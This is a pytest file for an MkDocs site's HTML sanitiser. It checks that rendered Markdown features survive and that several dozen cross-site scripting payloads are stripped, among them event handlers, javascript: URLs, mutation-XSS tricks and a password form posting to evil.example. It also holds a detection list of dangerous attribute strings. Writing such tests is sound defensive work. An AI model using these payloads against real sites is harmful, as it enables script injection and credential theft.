from __future__ import annotations

import re

import markdown
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mkdocs_ems.site.sanitise import plain, sanitised

EVERYTHING = """\
# Waste *procedure*

[link](other.html "t"), <me@wrenholt.example>, [far](https://iso.org) and HTML.

## Scope {#scope .wide}

!!! warning "Mind"
    text

??? note
    closed

???+ tip "Open"
    open

=== "One"

    first

=== "Two"

    second

| a | b | c |
|:--|:-:|--:|
| 1 | 2 | 3 |

A foot[^1].

*[HTML]: Hypertext Markup Language

[^1]: The note.

``` py title="x.py" linenums="1" hl_lines="1"
def f(): return "<b>"
```

- [x] done

Term
:   meaning

![alt](img/flow.png){ width=300 loading=lazy align=left }


[Button](x.html){ .md-button .md-button--primary }
"""
ACTIVE_TAG = re.compile(
    r"<(script|svg|math|iframe|object|embed|base|meta|link|style|form|button|textarea|video|template|xmp)\b"
)
FORBIDDEN = (
    *("hook", " on", "style=", "srcset", "data:", "javascript", "vbscript", "evil.example/"),
    *('href="//', 'href="\\', 'type="password"', 'type="image"'),
    *("data-md", "__config", "__search", "__drawer", "__md_scope", "mermaid", "md-overlay", "ems-"),
)
EXTENSIONS = {
    "abbr": {},
    "admonition": {},
    "attr_list": {},
    "def_list": {},
    "footnotes": {},
    "md_in_html": {},
    "tables": {},
    "toc": {"permalink": True},
    "pymdownx.details": {},
    "pymdownx.highlight": {"anchor_linenums": True, "line_spans": "__span"},
    "pymdownx.superfences": {},
    "pymdownx.tabbed": {"alternate_style": True},
    "pymdownx.tasklist": {"custom_checkbox": True},
}


def rendered(text: str) -> str:
    return markdown.markdown(text, extensions=list(EXTENSIONS), extension_configs=EXTENSIONS)


@pytest.mark.parametrize(
    "kept",
    [
        '<h1 id="waste-procedure">Waste <em>procedure</em>',
        '<a class="headerlink" href="#waste-procedure" title="Permanent link">¶</a>',
        '<h2 class="wide" id="scope">',
        '<a href="other.html" title="t">',
        '<a href="mailto:me@wrenholt.example">',
        '<a href="https://iso.org">',
        '<abbr title="Hypertext Markup Language">',
        '<div class="admonition warning">\n<p class="admonition-title">Mind</p>',
        '<details class="note">',
        '<details class="tip" open="open">',
        '<div class="tabbed-set tabbed-alternate" data-tabs="1:2">',
        '<input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio">',
        '<label for="__tabbed_1_2">Two</label>',
        '<th align="center">b</th>',
        '<td align="right">3</td>',
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">',
        '<li id="fn:1">',
        '<a class="footnote-backref" href="#fnref:1"',
        '<table class="highlighttable">',
        '<span class="filename">x.py</span>',
        '<span id="__span-0-1"><a id="__codelineno-0-1" name="__codelineno-0-1"',
        '<span class="k">def</span>',
        '<li class="task-list-item"><label class="task-list-control"><input type="checkbox"',
        "<dt>Term</dt>",
        '<img alt="alt" loading="lazy" src="img/flow.png" width="300" align="left">',
        '<a class="md-button md-button--primary" href="x.html">',
    ],
)
def test_what_material_draws_is_kept(kept: str) -> None:
    def attributes(html: str) -> set[frozenset[str]]:
        return {frozenset(re.findall(r'[\w-]+(?:="[^"]*")?', tag)) for tag in re.findall(r"<[^>]*>", html)}

    clean = sanitised(rendered(EVERYTHING))
    assert kept in clean or attributes(kept) <= attributes(clean)


def test_nothing_of_a_harmless_document_is_lost_but_the_styles_of_cells() -> None:
    def shape(html: str) -> tuple[list[str], str]:
        tags = sorted(re.findall(r"<([a-z0-9]+)", html.replace("<tbody>", "")))
        return tags, re.sub(r"<[^>]*>|\s", "", html)

    before = rendered(EVERYTHING).replace("&para;", "¶").replace("&#160;", "&nbsp;").replace("&#8617;", "↩")
    before = re.sub(r"&#(\d+);", lambda match: chr(int(match[1])), before)
    assert shape(sanitised(before)) == shape(before)


@pytest.mark.parametrize(
    "payload",
    [
        "<script>hook()</script>",
        "<img src=x onerror=hook()>",
        "<svg onload=hook()><script>hook()</script></svg>",
        "<math><mtext></p><style><img src=x onerror=hook()></style></math>",
        "<iframe src='javascript:hook()'></iframe>",
        "<iframe srcdoc='<script>hook()</script>'></iframe>",
        "<object data='x.html'></object><embed src='x.swf'>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>*{background:url(https://evil.example)}</style>",
        "<p style='background:url(https://evil.example)'>x</p>",
        "<form action=https://evil.example><input name=password><button>go</button></form>",
        "<input type=password name=secret>",
        "<input type=image src=https://evil.example/x.png>",
        "<textarea>x</textarea>",
        "<video src=https://evil.example/x.mp4 autoplay></video>",
        "<img src=https://evil.example/x.png>",
        "<img src=//evil.example/x.png>",
        "<img src='/\\evil.example/x.png'>",
        "<img src='\t//evil.example/x.png'>",
        "<img srcset='https://evil.example/x.png 1x' src=x.png>",
        "<a href='//evil.example'>x</a>",
        "<a href='\\\\evil.example'>x</a>",
        "[x](javascript:hook())",
        "[x](JaVaScRiPt:hook())",
        "<a href='java&#10;script:hook()'>x</a>",
        "<a href='data:text/html,<script>hook()</script>'>x</a>",
        "<a href='vbscript:hook()'>x</a>",
        "<a href=x onclick=hook()>x</a>",
        "<details ontoggle=hook() open>x</details>",
        "# x {onclick=hook()}",
        "<template><script>hook()</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=hook()>'></noscript>",
        "<xmp><script>hook()</script></xmp>",
        "<!--<img src=--><img src=x onerror=hook()//>",
        '<div data-md-component="source"><a href="https://github.com/x/y">x</a></div>',
        '<div id="__config">{"base": "https://evil.example", "search": "https://evil.example/x.js"}</div>',
        '<p id="__search">x</p><label for="__drawer">x</label>',
        '<a name="__md_scope" href="x">x</a>',
        '<div class="mermaid">graph LR</div><pre class="Mermaid x"><code>graph LR</code></pre>',
        '<div class="md-overlay">x</div>',
        '<div class="ems-control ems-approved">approved by nobody</div>',
        '<h2 id="ems--issues">Issues</h2>',
    ],
)
def test_nothing_acts_asks_or_pretends(payload: str) -> None:
    clean = sanitised(rendered(payload))
    tags = re.findall(r"<[^>]*>", clean)
    assert not [tag for tag in tags if ACTIVE_TAG.match(tag)]
    told = " ".join(tags).lower()
    assert not [word for word in FORBIDDEN if word in told], clean
    assert not re.search(r'<input(?![^>]*type="(radio|checkbox)")', told)


def test_a_mermaid_fence_is_shown_as_code() -> None:
    fence = {"custom_fences": [{"name": "mermaid", "class": "mermaid"}]}
    html = markdown.markdown(
        "```mermaid\ngraph LR\n```",
        extensions=["pymdownx.superfences"],
        extension_configs={"pymdownx.superfences": fence},
    )
    assert sanitised(html) == "<pre><code>graph LR</code></pre>"


@given(st.text(alphabet="<>\"'=/ aimgsrcx:jvpton&;#x0\n\t`", max_size=60))
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    clean = sanitised(text)
    assert sanitised(clean) == clean


@given(st.text(max_size=60))
def test_a_title_made_plain_holds_no_tag(text: str) -> None:
    assert "<" not in plain(text)


def test_no_attribute_holds_an_angle_bracket_that_could_be_taken_for_a_tag() -> None:
    # What is done to the cleaned HTML afterwards looks for tags as text.
    html = sanitised('<a title="<input ">x" onmouseover=hook() y="z</a><p title="<h2 id=k>">q</p>')
    assert html == ('<a title="&lt;input ">x" onmouseover=hook() y="z</a><p title="&lt;h2 id=k&gt;">q</p>')
